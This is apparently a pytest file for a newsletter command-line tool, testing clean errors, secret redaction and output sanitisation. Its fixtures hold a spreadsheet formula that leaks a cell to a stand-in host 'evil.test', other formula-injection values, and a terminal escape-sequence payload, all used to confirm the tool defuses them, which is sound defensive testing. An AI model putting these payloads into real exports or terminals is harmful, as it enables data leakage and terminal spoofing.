"""The commands as a user runs them: clear messages, the documented exit codes.

Most run in this process (`Project.run_in_process`: the same exit code, stdout and stderr, a
second less each); what reaches a terminal, and a missing configuration, is checked on real
`python -m newsletter` processes.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, LoginPassword

from conftest import FeedServer, Mailbox, Project, Route, free_port, item, rss


def assert_clean_failure(result, code: int, *needles: str) -> None:  # type: ignore[no-untyped-def]
    output = result.stdout + result.stderr
    assert result.returncode == code, output
    assert "Traceback" not in output
    for needle in needles:
        assert needle in output, (needle, output)


def test_bad_yaml_unknown_key_and_missing_sender_exit_2_naming_file_and_key(project: Project) -> None:
    project.setup(["feed.xml"])
    good = project.config.read_text()
    cases = [
        (good.replace("    sender: main", "    sender: [main"), "schedules.yaml:", "bad YAML"),
        (
            good.replace("    sender: main", "    sender: main\n    sendr: main"),
            "schedules.weekly.sendr: unknown key",
        ),
        (
            good.replace("    sender: main", "    sender: nowhere"),
            "schedules.weekly.sender: no sender named 'nowhere'",
        ),
    ]
    for text, *needles in cases:
        project.config.write_text(text)
        for command in (["check"], ["send-digest", "weekly"]):
            assert_clean_failure(project.run_in_process(*command), 2, str(project.config), *needles)


def test_check_reports_bad_subscriber_rows_with_file_and_line(project: Project) -> None:
    project.setup(["feed.xml"], subscribers=["ann@example.com,Ann", "bogus,Bad", "ann@EXAMPLE.com,Dup"])
    result = project.run_in_process("check")
    assert result.returncode == 0, result.stderr
    assert "readers.csv:3: invalid address 'bogus'" in result.stderr
    assert "readers.csv:4: ann@example.com already on line 2" in result.stderr
    assert "weekly: 1 subscriber(s)" in result.stdout


def test_malformed_and_failing_feeds_are_reported_not_raised(
    project: Project, feed_server: FeedServer
) -> None:
    feed_server.routes["/bad.xml"] = Route(b"<rss><channel><item><title>cut")
    feed_server.routes["/err.xml"] = Route(b"no", status=500, content_type="text/plain")
    project.setup([feed_server.url("/bad.xml"), feed_server.url("/err.xml")])
    result = project.run_in_process("fetch")
    assert_clean_failure(result, 0, "/bad.xml: not a feed", "/err.xml: HTTP 500", "2 error(s)")
    digest = project.run_in_process("send-digest", "weekly")
    assert_clean_failure(digest, 0, "nothing new")


def test_unknown_schedule_is_a_usage_error(project: Project) -> None:
    project.setup(["feed.xml"])
    assert_clean_failure(
        project.run_in_process("send-digest", "monthly"), 2, "no schedule named 'monthly'", "weekly"
    )


def test_missing_config_points_at_the_option(tmp_path) -> None:  # type: ignore[no-untyped-def]
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, "-m", "newsletter", "--config", str(tmp_path / "none.yaml"), "check"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert_clean_failure(result, 2, "no such file", "--config")


def test_status_shows_issues_deliveries_and_feed_health(
    project: Project, feed_server: FeedServer, smtp_server: tuple[Mailbox, int]
) -> None:
    box, port = smtp_server
    feed_server.routes["/feed.xml"] = Route(rss([item(1), item(2)]))
    project.setup([feed_server.url("/feed.xml")], smtp_port=port)
    box.rcpt_replies = {"cy@example.com": "550 no"}
    sent = project.run_in_process("send-digest", "weekly")
    assert sent.returncode == 1
    status = project.run_in_process("status")
    assert status.returncode == 0
    assert "weekly: 3 subscriber(s), 0 new entries waiting" in status.stdout
    assert "#1" in status.stdout and "sent 2, pending 0, failed 1" in status.stdout
    assert f"feed {feed_server.url('/feed.xml')}: ok" in status.stdout


# -- secrets and terminal control characters never reach the output ---------------------------

SECRET = "hunter2-Zq9xW4"


def refusing_authenticator(server: Any, session: Any, envelope: Any, mechanism: str, data: Any) -> AuthResult:
    # Some servers quote what they were given back; the CLI must not pass it on.
    echoed = data.password.decode() if isinstance(data, LoginPassword) else "?"
    return AuthResult(success=False, handled=False, message=f"535 5.7.8 bad password {echoed!r}")


@pytest.fixture
def refusing_smtp() -> Iterator[int]:
    port = free_port()
    controller = Controller(
        Mailbox(),
        hostname="127.0.0.1",
        port=port,
        authenticator=refusing_authenticator,
        auth_required=True,
        auth_require_tls=False,
    )
    controller.start()
    yield port
    controller.stop()


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
def test_a_refused_smtp_login_never_shows_the_password(
    project: Project, feed_server: FeedServer, refusing_smtp: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    feed_server.routes["/feed.xml"] = Route(rss([item(1)]))
    project.setup([feed_server.url("/feed.xml")], smtp_port=refusing_smtp)
    login = "    timeout: 10\n    username: news\n    password_env: SMTP_PASSWORD"
    project.config.write_text(project.config.read_text().replace("    timeout: 10", login))
    monkeypatch.setenv("SMTP_PASSWORD", SECRET)
    result = project.run_in_process("send-digest", "weekly")
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "refused the login" in output and "535" in output, output
    assert SECRET not in output


def test_a_config_error_in_a_value_from_the_environment_names_the_key_not_the_value(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    project.setup(["feed.xml"])
    project.config.write_text(
        project.config.read_text().replace("    from: Test Weekly <news@example.net>", "    from: ${FROM}")
    )
    monkeypatch.setenv("FROM", f"sk_live_{SECRET}")  # a secret put in the wrong variable
    for command in (["check"], ["send-digest", "weekly"]):
        result = project.run_in_process(*command)
        assert_clean_failure(result, 2, str(project.config), "schedules.weekly.from", "not an email address")
        assert SECRET not in result.stdout + result.stderr


def test_a_feed_url_with_credentials_is_shown_without_them(project: Project, feed_server: FeedServer) -> None:
    url = feed_server.url("/private.xml").replace("http://", f"http://reader:{SECRET}@")
    project.setup([url])
    fetched = project.run_in_process("fetch")
    assert_clean_failure(fetched, 0, "/private.xml", "HTTP 404", "1 error(s)")
    status = project.run_in_process("status")
    assert_clean_failure(status, 0, "/private.xml", "error (1 in a row)")
    for result in (fetched, status):
        output = result.stdout + result.stderr
        assert SECRET not in output
        assert "reader:" not in output


CONTROLS = ["\x1b", "\x07", "\r", "\x9b"]
HOSTILE = "\x1b[2J\x1b]0;owned\x07 Evil\r\x9b31m Title\x1b[0m"


def test_control_characters_from_a_feed_never_reach_the_terminal(
    project: Project, feed_server: FeedServer
) -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": HOSTILE,
        "home_page_url": "https://blog.test/",
        "items": [
            {
                "id": f"e{n}",
                "url": f"https://blog.test/{n}",
                "title": f"{HOSTILE} {n}",
                "content_html": f"<p>{HOSTILE} body</p>",
                "date_published": f"2026-01-0{n}T08:00:00Z",
                "tags": [HOSTILE],
            }
            for n in (1, 2)
        ],
    }
    feed_server.routes["/feed.json"] = Route(json.dumps(doc).encode(), content_type="application/feed+json")
    project.setup([feed_server.url("/feed.json")])
    runs = [
        project.run_process("fetch"),
        project.run_process("share", "weekly"),
        project.run_process("share", "weekly", "--json"),
        project.run_process("send-digest", "weekly"),
        project.run_process("status"),
    ]
    for result in runs:
        output = result.stdout + result.stderr
        assert result.returncode == 0, output
        assert not [c for c in CONTROLS if c in output], (result.args, output)
    # Shown, only defused: the share text, the sent subject, the issue in status.
    assert all("Evil" in r.stdout for r in (runs[1], runs[3], runs[4]))
    titles = [i["title"] for i in json.loads(runs[2].stdout)]
    assert len(titles) == 2 and all("Evil" in t for t in titles)


def test_subscribers_export_neutralises_spreadsheet_formulas(project: Project) -> None:
    project.setup(["feed.xml"])
    rows = {
        "ann@example.com": '=HYPERLINK("https://evil.test/?d="&A1,"click")',
        "bob@example.com": "+1",
        "cy@example.com": "-2",
        "dee@example.com": "@SUM(A1:A9)",
        "eve@example.com": "\tx",
        "fay@example.com": "\rx",
        "-gus@example.com": "Gus",
        "hal@example.com": "Hal = Harold",
    }
    path = project.root / "subscribers" / "readers.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "=note"])
        for email, name in rows.items():
            writer.writerow([email, name, "=1+1" if email == "hal@example.com" else "plain"])
    result = project.run_in_process("subscribers", "export", "readers")
    assert result.returncode == 0, result.stderr
    table = list(csv.reader(io.StringIO(result.stdout)))
    assert table[0] == ["email", "name", "'=note"]
    exported = {row[0]: row for row in table[1:]}
    assert exported["ann@example.com"][1] == "'" + rows["ann@example.com"]
    assert exported["bob@example.com"][1] == "'+1"
    assert exported["cy@example.com"][1] == "'-2"
    assert exported["dee@example.com"][1] == "'@SUM(A1:A9)"
    assert exported["'-gus@example.com"][1] == "Gus"
    assert exported["hal@example.com"][1:] == ["Hal = Harold", "'=1+1"]
    assert exported["ann@example.com"][2] == "plain"
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert len(exported) == len(rows)
